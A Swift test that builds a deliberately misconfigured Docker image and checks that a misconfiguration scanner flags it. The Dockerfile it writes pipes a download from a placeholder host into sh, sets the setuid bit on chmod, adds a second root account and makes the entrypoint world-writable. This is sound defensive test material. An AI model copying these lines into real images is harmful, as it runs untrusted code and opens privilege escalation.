import Foundation
import Images
import Model
import TestKit
import Testing

@testable import Misconfiguration

/// An image that a real engine built, with the legacy builder (BuildKit needs a component that Debian's engine lacks; its
/// forms are in HistoryReaderTests).
@Suite struct RealImageTests {
  @Test(.enabled(if: RealEngine.isPossible && Tool.find("busybox") != nil)) func legacyBuilder() throws {
    let engine = try RealEngine()
    let folder = try TemporaryDirectory()
    let busybox = try #require(Tool.find("busybox"))
    for name in ["sh", "chmod", "wget"] {
      try FileManager.default.copyItem(atPath: busybox, toPath: "\(folder.path)/\(name)")
    }
    try folder.write("etc/passwd", "root:x:0:0::/root:/bin/sh\ntoor:x:0:0::/:/bin/sh\n")
    try folder.write("start", "#!/bin/sh\n")
    try folder.write(
      "Dockerfile",
      """
      FROM scratch
      COPY sh chmod wget /bin/
      ADD etc /etc
      COPY start /start
      ARG TOKEN
      RUN chmod 4755 /bin/chmod && chmod 777 /start && (wget -qO- http://nowhere.invalid/x | sh || true)
      USER toor
      EXPOSE 22
      HEALTHCHECK --interval=5s CMD /start
      CMD ["/start"]
      """)
    do {
      try engine.docker(["build", "-q", "-t", "own:1", "--build-arg", "TOKEN=s3cr3t-value", folder.path])
    } catch {
      print("skipped: a RUN in a real build: the engine can't start containers here: \(error)")
      return
    }
    let image = try EngineImage(.image, "own:1", socket: engine.socket).open()
    let tree = FileTree(LayerScanner([MisconfigurationInspector()]).scan(image.layers))
    let subject = Subject(kind: .image, name: image.name)
    let findings = MisconfigurationJudge(today: "2026-11-25").judge(tree, image.configuration, subject: subject)
      .findings
    let rules = Set(findings.map(\.rule))
    let expected: Set<String> = [
      "dockerfile.add-local", "dockerfile.download-executed",
      "image.user-root", "image.second-root", "image.login-port", "image.setuid", "image.entrypoint-writable",
      "image.shell-in-minimal",
    ]
    #expect(rules.isSuperset(of: expected), "\(expected.subtracting(rules)) of \(rules.sorted())")
    #expect(!rules.contains("image.healthcheck-missing"))
    let setuid = try #require(findings.first { $0.rule == "image.setuid" && $0.evidence.path == "bin/chmod" })
    #expect(setuid.evidence.details["inLayer"] == "4 of 4")
    #expect(setuid.evidence.createdBy?.contains("chmod 4755") == true)
    #expect(findings.allSatisfy { !"\($0)".contains("s3cr3t-value") })
  }
}
